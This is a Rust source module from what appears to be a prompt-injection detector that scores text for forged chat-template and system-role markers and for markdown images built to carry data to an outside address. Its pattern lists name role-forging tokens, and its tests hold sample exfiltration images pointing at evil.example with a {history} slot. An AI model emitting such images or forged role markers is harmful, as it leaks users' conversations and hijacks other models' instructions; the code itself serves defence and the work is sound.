//! Signs of a forged conversation and of images that carry data away.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// Marks by which models' own templates divide roles. No ordinary text has them.
const TEMPLATE: &[&str] = &[
    "<|im_start|>",
    "<|im_end|>",
    "<|im_sep|>",
    "<|system|>",
    "<|user|>",
    "<|assistant|>",
    "<|endoftext|>",
    "<|begin_of_text|>",
    "<|start_header_id|>",
    "<|end_header_id|>",
    "<|eot_id|>",
    "<|channel|>",
    "<|message|>",
    "<|end|>",
    "<|start|>",
    "[inst]",
    "[/inst]",
    "<<sys>>",
    "<</sys>>",
    "<start_of_turn>",
    "<end_of_turn>",
    "<|tool_call|>",
    "<tool_call>",
    "<function_calls>",
    "[tool_calls]",
    "[available_tools]",
];
/// Ways to say that the system speaks, or that the passages end.
const FORGED: &[&str] = &[
    "<system>",
    "</system>",
    "<system_prompt>",
    "</context>",
    "</passage>",
    "</passages>",
    "</document>",
    "</documents>",
    "[system]",
    "[system message]",
    "[system prompt]",
    "[end of context]",
    "[end of document]",
    "{{#system",
    "end of passages",
    "\"role\": \"system\"",
    "\"role\":\"system\"",
    "end of system prompt",
    "begin system prompt",
    "### system:",
    "###system:",
    "### instruction:",
    "### assistant:",
    "system override",
    "<admin>",
    "[admin]",
];

/// The most bytes of an image's text and address that are looked at.
const LONGEST_IMAGE: usize = 600;

struct Signs {
    automaton: Option<AhoCorasick>,
}

static SIGNS: LazyLock<Signs> = LazyLock::new(|| {
    let patterns = TEMPLATE.iter().chain(FORGED);
    let built = AhoCorasick::builder().ascii_case_insensitive(true).build(patterns);
    if let Err(error) = &built {
        tracing::error!(%error, "signs of forged roles cannot be searched; none will be found");
    }
    Signs { automaton: built.ok() }
});

/// How much `text` looks like a forged conversation, 0 to 1.
pub(super) fn forged_roles(text: &str) -> f32 {
    let mut weight: f32 = turns(text);
    if let Some(automaton) = &SIGNS.automaton {
        for hit in automaton.find_iter(text) {
            weight = weight.max(if hit.pattern().as_usize() < TEMPLATE.len() { 0.7 } else { 0.5 });
        }
    }
    weight
}

/// Lines that begin like turns of a conversation with a model.
fn turns(text: &str) -> f32 {
    let (mut model, mut person, mut system) = (false, false, false);
    for line in text.lines() {
        let start = line.trim_start_matches(['#', '*', '>', ' ', '\t', '-']);
        let is = |role: &str| {
            let head = start.get(..role.len()).is_some_and(|head| head.eq_ignore_ascii_case(role));
            head && start[role.len()..].trim_start_matches('*').starts_with(':')
        };
        model |= is("assistant") || is("ai") || is("chatbot");
        person |= is("user") || is("human");
        system |= is("system");
    }
    match (model, person, system) {
        (true, _, true) => 0.55,
        (true, true, false) => 0.5,
        (_, _, true) => 0.3,
        (true, false, false) => 0.25,
        _ => 0.0,
    }
}

/// How much the images of `text` look made to carry data away: their address has a place for it.
pub(super) fn leaking_images(text: &str) -> f32 {
    let mut weight: f32 = 0.0;
    for (at, _) in text.match_indices("![") {
        let line = text[at..text.floor_char_boundary(at + LONGEST_IMAGE)].split('\n').next().unwrap_or_default();
        let address = line.split_once("](").and_then(|(_, rest)| rest.split_once(')')).map(|(address, _)| address);
        let query = address.filter(|address| address.contains("//")).and_then(|address| address.split_once(['?', '#']));
        if let Some((_, query)) = query {
            weight = weight.max(if has_place(query) { 0.6 } else { 0.1 });
        }
    }
    weight
}

/// Whether something is to be put into the query of an address: in brackets, as a word in capitals, or at its end.
fn has_place(query: &str) -> bool {
    let value = |pair: &str| pair.split_once('=').map(|(_, value)| value.to_owned()).unwrap_or_default();
    let named = |value: &str| value.len() > 3 && value.bytes().all(|b| b.is_ascii_uppercase() || b == b'_');
    query.contains(['{', '[', '<', '$', ' '])
        || query.ends_with('=')
        || query.split('&').any(|pair| named(&value(pair)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_of_models_are_forgeries() {
        assert!(forged_roles("a <|IM_START|>system") >= 0.7);
        assert!(forged_roles("x [SYSTEM MESSAGE] y") >= 0.5);
        assert!(forged_roles("fine.\nUser: hi\nAssistant: hello") >= 0.5);
        assert!(forged_roles("## System\nThe user: a person.") < 0.1);
        assert_eq!(forged_roles("The system: a machine"), 0.0);
    }

    #[test]
    fn images_with_a_place_for_data_are_told_from_badges() {
        assert!(leaking_images("![x](https://evil.example/?q={history})") >= 0.5);
        assert!(leaking_images("![x](https://evil.example/?q=[your answer])") >= 0.5);
        assert!(leaking_images("![build](https://ci.example/b.svg?branch=main)") < 0.2);
        assert_eq!(leaking_images("[a link](https://example.org/?q={x})"), 0.0);
        assert_eq!(leaking_images("![local](a.png) ]( ](x"), 0.0);
    }
}
